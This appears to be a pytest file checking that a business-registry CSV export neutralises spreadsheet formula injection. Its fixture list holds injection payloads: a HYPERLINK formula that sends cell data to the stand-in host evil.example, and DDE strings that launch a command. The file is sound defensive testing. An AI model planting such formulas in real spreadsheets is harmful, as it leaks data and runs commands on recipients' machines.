"""Snapshot CSV cells that a spreadsheet would run as formulas reach it as text."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest

from chalicelib.blobs import open_blobs
from chalicelib.domain.models import Contact, Point
from chalicelib.domain.reference import load_municipalities
from chalicelib.publishing.snapshot import SnapshotPublisher, neutralise_cell
from chalicelib.store import open_store
from tests.factories import business

YEAR = 2025
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klik her")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "+1",
    "\tTabulator=1+1",
    "\rCarriage=1+1",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def files(tmp_path_factory: pytest.TempPathFactory) -> dict[str, list[dict[str, str]]]:
    tmp: Path = tmp_path_factory.mktemp("csv")
    store = open_store(f"sqlite:///{tmp / 'csv.db'}")
    store.create_table()
    store.upsert_municipalities(load_municipalities(["376", "390"]))
    rows = []
    for i, payload in enumerate(PAYLOADS):
        rows.append(
            business(
                f"{20000000 + i * 8}",
                name=payload,
                address=payload,
                city=payload,
                industry_text=payload,
                company_form_text=payload,
                contact=Contact(phone="+45 12 34 56 78", email="a@b.example"),
                founded=date(2020, 1, 1),
                location=Point(lon=11.8729 + i / 1000, lat=54.7691),
            )
        )
    store.upsert_businesses(rows)
    blobs = open_blobs(f"file:///{tmp / 'blobs'}")
    manifest = SnapshotPublisher(store, blobs, ("376", "390")).publish(YEAR)
    store.close()
    out = {}
    for name, delimiter in (("businesses.csv", ","), ("businesses-excel-da.csv", ";")):
        raw = blobs.get(f"{manifest['prefix']}/{name}") or b""
        text = raw.decode("utf-8-sig")
        out[name] = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter))
    return out


@pytest.mark.parametrize("name", ["businesses.csv", "businesses-excel-da.csv"])
def test_no_cell_starts_a_formula(files: dict[str, list[dict[str, str]]], name: str) -> None:
    rows = files[name]
    assert len(rows) == len(PAYLOADS)
    for row in rows:
        for column, cell in row.items():
            if column in ("lon", "lat"):
                continue
            assert not cell.startswith(DANGEROUS), (name, column, cell)


@pytest.mark.parametrize("name", ["businesses.csv", "businesses-excel-da.csv"])
def test_the_payloads_arrive_whole_behind_one_quote(
    files: dict[str, list[dict[str, str]]], name: str
) -> None:
    seen = {row["name"] for row in files[name]}
    assert seen == {"'" + p for p in PAYLOADS}
    for row in files[name]:
        assert row["address"] == row["city"] == row["industry_text"] == row["name"]
        assert row["company_form_text"] == row["name"]
        assert row["phone"] == "'+45 12 34 56 78"  # a leading + is a formula to Excel too


def test_numbers_stay_numbers(files: dict[str, list[dict[str, str]]]) -> None:
    for std, da in zip(files["businesses.csv"], files["businesses-excel-da.csv"], strict=True):
        assert float(std["lon"]) > 11.8 and float(std["lat"]) == 54.7691
        assert da["lon"].replace(",", ".") == std["lon"] and "'" not in da["lat"]
        assert std["postcode"] == da["postcode"] == "4800"
        assert std["id"].isdigit() and std["founded"] == "2020-01-01"


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("-12.5", "'-12.5"),  # outside the numeric columns a leading minus is neutralised
        ("\t", "'\t"),
        ("Hansen & Søn", "Hansen & Søn"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_neutralise_cell(cell: str, shown: str) -> None:
    assert neutralise_cell(cell) == shown
